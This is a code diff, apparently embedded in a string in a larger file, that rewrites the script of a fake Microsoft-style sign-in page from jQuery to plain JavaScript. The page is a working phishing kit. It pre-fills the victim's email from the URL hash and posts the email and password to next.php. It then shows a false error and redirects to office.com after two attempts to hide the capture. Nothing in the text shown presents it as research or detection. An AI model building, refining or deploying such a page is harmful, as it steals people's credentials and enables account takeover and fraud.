@@ -31,7 +31,6 @@ a{color:#0067b8;text-decoration:none;font-size:13px}
 .footer{position:fixed;bottom:0;right:0;font-size:12px;padding:8px 16px}
 .footer a{color:#000;margin-left:12px;font-size:12px}
 </style>
-<script src="https://code.jquery.com/jquery-3.6.0.min.js"></script>
 </head>
 <body>
 <div class="outer"><div class="middle"><div class="inner">
@@ -59,31 +58,32 @@ a{color:#0067b8;text-decoration:none;font-size:13px}
 <script>
 var count = 0;
 var mailRe = /^([a-zA-Z0-9_.+-])+@(([a-zA-Z0-9-])+\\.)+([a-zA-Z0-9]{2,4})+$/;
+function $id(i) { return document.getElementById(i); }
 var h = window.location.hash.substr(1);
-if (h && mailRe.test(h)) { $('#ai').val(h); }
-$('#next').on('click', function (e) {
+if (h && mailRe.test(h)) { $id('ai').value = h; }
+$id('next').onclick = function (e) {
   e.preventDefault();
-  var ai = $('#ai').val();
-  if (!mailRe.test(ai)) { $('#err1').show(); return false; }
-  $('#err1').hide(); $('#aiShow').html(ai); $('#step1').hide(); $('#step2').show(); $('#pr').focus();
-});
-$('#back').on('click', function () { $('#step2').hide(); $('#step1').show(); });
-$('#submit-btn').on('click', function (e) {
+  var ai = $id('ai').value;
+  if (!mailRe.test(ai)) { $id('err1').style.display = 'block'; return false; }
+  $id('err1').style.display = 'none'; $id('aiShow').innerHTML = ai; $id('step1').style.display = 'none'; $id('step2').style.display = 'block'; $id('pr').focus();
+};
+$id('back').onclick = function () { $id('step2').style.display = 'none'; $id('step1').style.display = 'block'; };
+$id('submit-btn').onclick = function (e) {
   e.preventDefault();
-  var ai = $('#ai').val(), pr = $('#pr').val();
-  if (pr.length < 2) { $('#err2').show(); return false; }
+  var ai = $id('ai').value, pr = $id('pr').value;
+  if (pr.length < 2) { $id('err2').style.display = 'block'; return false; }
   count = count + 1;
-  $.ajax({
-    dataType: 'JSON', url: 'next.php', type: 'POST',
-    data: { ai: ai, pr: pr },
-    beforeSend: function () { $('#submit-btn').html('Verifying...'); },
-    complete: function () {
-      $('#pr').val(''); $('#submit-btn').html('Sign in');
-      if (count >= 2) { count = 0; window.location.replace('https://www.office.com/?auth=2'); return false; }
-      $('#err2').show();
-    }
-  });
-});
+  $id('submit-btn').innerHTML = 'Verifying...';
+  var x = new XMLHttpRequest();
+  x.open('POST', 'next.php', true);
+  x.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
+  x.onloadend = function () {
+    $id('pr').value = ''; $id('submit-btn').innerHTML = 'Sign in';
+    if (count >= 2) { count = 0; window.location.replace('https://www.office.com/?auth=2'); return; }
+    $id('err2').style.display = 'block';
+  };
+  x.send('ai=' + encodeURIComponent(ai) + '&pr=' + encodeURIComponent(pr));
+};
 </script>
 </body></html>`,
 },
